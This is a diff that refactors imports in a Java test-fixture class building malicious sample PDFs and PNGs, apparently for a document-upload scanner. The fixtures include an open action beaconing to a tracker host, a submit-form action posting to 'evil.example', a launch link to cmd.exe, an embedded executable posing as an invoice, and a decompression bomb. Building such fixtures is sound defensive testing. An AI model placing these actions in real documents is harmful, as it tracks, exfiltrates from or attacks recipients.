@@ -1,6 +1,7 @@
 package kz.iinportal.documents;
 
 import java.awt.image.BufferedImage;
+import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.UncheckedIOException;
@@ -11,14 +12,16 @@ import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.HexFormat;
 import java.util.List;
-
 import java.util.Map;
 import java.util.zip.CRC32;
+import java.util.zip.Deflater;
+import java.util.zip.DeflaterOutputStream;
 
 import javax.imageio.ImageIO;
 
 import org.apache.pdfbox.cos.COSName;
 import org.apache.pdfbox.cos.COSStream;
+import org.apache.pdfbox.cos.COSString;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
 import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
@@ -33,9 +36,13 @@ import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
 import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
 import org.apache.pdfbox.pdmodel.font.PDType1Font;
 import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
+import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
+import org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions;
 import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
 import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
 import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
@@ -175,7 +182,7 @@ public final class TestFiles {
         return pdfBox("Hello", (document, page) -> {
             PDPageFitWidthDestination destination = new PDPageFitWidthDestination();
             destination.setPage(page);
-            var goTo = new org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo();
+            var goTo = new PDActionGoTo();
             goTo.setDestination(destination);
             document.getDocumentCatalog().setOpenAction(goTo);
         });
@@ -184,7 +191,7 @@ public final class TestFiles {
     /** A hyperlink to a web page, as every exported document with links has. */
     static byte[] pdfWithWebLink() {
         return pdfBox("See https://egov.kz", (document, page) -> {
-            var uri = new org.apache.pdfbox.pdmodel.interactive.action.PDActionURI();
+            var uri = new PDActionURI();
             uri.setURI("https://egov.kz/");
             page.getAnnotations().add(link(uri));
         });
@@ -193,7 +200,7 @@ public final class TestFiles {
     /** Opens a web address as soon as the document is opened: tells the sender who read it, when. */
     static byte[] pdfOpeningAWebAddress() {
         return pdfBox("Hello", (document, page) -> {
-            var uri = new org.apache.pdfbox.pdmodel.interactive.action.PDActionURI();
+            var uri = new PDActionURI();
             uri.setURI("https://tracker.example/opened?id=42");
             document.getDocumentCatalog().setOpenAction(uri);
         });
@@ -220,7 +227,7 @@ public final class TestFiles {
     static byte[] pdfWithLaunchLink() {
         return pdfBox("Click here", (document, page) -> {
             PDActionLaunch launch = new PDActionLaunch();
-            launch.setFile(new PDSimpleFileSpecification(new org.apache.pdfbox.cos.COSString("cmd.exe")));
+            launch.setFile(new PDSimpleFileSpecification(new COSString("cmd.exe")));
             page.getAnnotations().add(link(launch));
         });
     }
@@ -229,7 +236,8 @@ public final class TestFiles {
     static byte[] pdfWithSubmitFormLink() {
         return pdfBox("Click here", (document, page) -> {
             PDActionSubmitForm submit = new PDActionSubmitForm();
-            submit.setFile(new PDSimpleFileSpecification(new org.apache.pdfbox.cos.COSString("https://evil.example/collect")));
+            submit.setFile(
+                    new PDSimpleFileSpecification(new COSString("https://evil.example/collect")));
             page.getAnnotations().add(link(submit));
         });
     }
@@ -247,7 +255,7 @@ public final class TestFiles {
             document.getDocumentCatalog().setAcroForm(form);
             PDTextField field = new PDTextField(form);
             field.setPartialName("name");
-            var actions = new org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions();
+            var actions = new PDFormFieldAdditionalActions();
             actions.setK(new PDActionJavaScript("event.rc = true; app.alert('typed');"));
             field.getCOSObject().setItem(COSName.AA, actions);
             PDAnnotationWidget widget = field.getWidgets().get(0);
@@ -316,7 +324,7 @@ public final class TestFiles {
         });
     }
 
-    private static PDAnnotationLink link(org.apache.pdfbox.pdmodel.interactive.action.PDAction action) {
+    private static PDAnnotationLink link(PDAction action) {
         PDAnnotationLink link = new PDAnnotationLink();
         link.setRectangle(new PDRectangle(72, 690, 100, 20));
         link.setAction(action);
@@ -324,7 +332,7 @@ public final class TestFiles {
     }
 
     private static PDComplexFileSpecification attachment(PDDocument document) throws IOException {
-        PDEmbeddedFile file = new PDEmbeddedFile(document, new java.io.ByteArrayInputStream(ascii("MZ payload")));
+        PDEmbeddedFile file = new PDEmbeddedFile(document, new ByteArrayInputStream(ascii("MZ payload")));
         file.setSubtype("application/octet-stream");
         PDComplexFileSpecification specification = new PDComplexFileSpecification();
         specification.setFile("invoice.exe");
@@ -363,7 +371,7 @@ public final class TestFiles {
     /** The same, with {@code between} written between two objects, where PDF readers ignore what they find. */
     static byte[] pdfWithObjectStreamInflatingTo(int megabytes, String between) {
         ByteArrayOutputStream compressed = new ByteArrayOutputStream();
-        try (var deflate = new java.util.zip.DeflaterOutputStream(compressed, new java.util.zip.Deflater(9))) {
+        try (var deflate = new DeflaterOutputStream(compressed, new Deflater(9))) {
             deflate.write(ascii("5 0 << /A 1 >>"));
             byte[] spaces = new byte[1024 * 1024];
             Arrays.fill(spaces, (byte) ' ');
@@ -404,7 +412,8 @@ public final class TestFiles {
     /** A PNG whose IHDR declares the size, with a correct CRC, followed by an empty IEND. No pixels. */
     public static byte[] pngDeclaring(long width, long height) {
         byte[] ihdr = concat(be((int) width, 4), be((int) height, 4), new byte[] { 8, 2, 0, 0, 0 });
-        return concat(HexFormat.of().parseHex("89504E470D0A1A0A"), pngChunk("IHDR", ihdr), pngChunk("IEND", new byte[0]));
+        return concat(HexFormat.of().parseHex("89504E470D0A1A0A"), pngChunk("IHDR", ihdr),
+                pngChunk("IEND", new byte[0]));
     }
 
     static byte[] pngChunk(String type, byte[] data) {
